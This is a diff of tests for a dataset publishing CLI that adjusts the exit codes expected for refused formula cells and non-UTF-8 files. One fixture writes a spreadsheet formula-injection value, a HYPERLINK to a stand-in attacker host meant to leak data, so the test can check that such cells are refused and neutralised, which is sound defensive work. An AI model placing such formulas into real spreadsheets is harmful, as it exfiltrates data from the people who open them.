@@ -52,7 +52,7 @@ def test_formula_cells_are_refused_then_published_neutralised_and_recorded(
     set_comment(workspace, 3, '=HYPERLINK("http://evil.example/?leak","click")')
     set_comment(workspace, 5, "- not applicable")
     refused = cdx("publish", "health-scorecard", cwd=workspace)
-    assert refused.returncode != 0
+    assert refused.returncode == 1  # a failure of the data, as an invalid dataset is
     assert "[source-formula]" in refused.stderr
     assert "row 4, column 9 (`comment`)" in refused.stderr
     assert "formulas: neutralise" in refused.stderr
@@ -123,7 +123,7 @@ def test_a_file_that_is_not_utf8_is_refused_naming_the_line_a_person_can_find(
     path = workspace / SCORES
     path.write_bytes(path.read_text(encoding="utf-8").encode("cp1252"))
     told = cdx("validate", str(path), cwd=workspace)
-    assert told.returncode == 2 and "[source-encoding]" in told.stderr
+    assert told.returncode == 1 and "[source-encoding]" in told.stderr  # the data, not usage
     assert "is not UTF-8 (the first character that is not is on line 8)" in told.stderr
     assert "position" not in told.stderr
 
